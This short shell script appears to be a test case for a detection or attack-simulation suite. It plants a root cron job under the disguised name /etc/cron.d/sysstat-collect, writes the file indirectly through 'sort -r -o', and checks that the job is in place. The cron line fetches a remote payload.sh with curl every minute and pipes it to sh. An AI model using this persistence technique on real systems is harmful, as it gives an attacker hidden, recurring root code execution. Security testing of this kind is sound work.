#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.d
printf '* * * * * root curl -s http://203.0.113.10/payload.sh | sh\n' >/tmp/1; printf 'SHELL=/bin/bash\n' >/tmp/2
cd /etc/cron.d && sort -r -o sysstat-collect /tmp/1 /tmp/2
grep -q payload /etc/cron.d/sysstat-collect
took_place
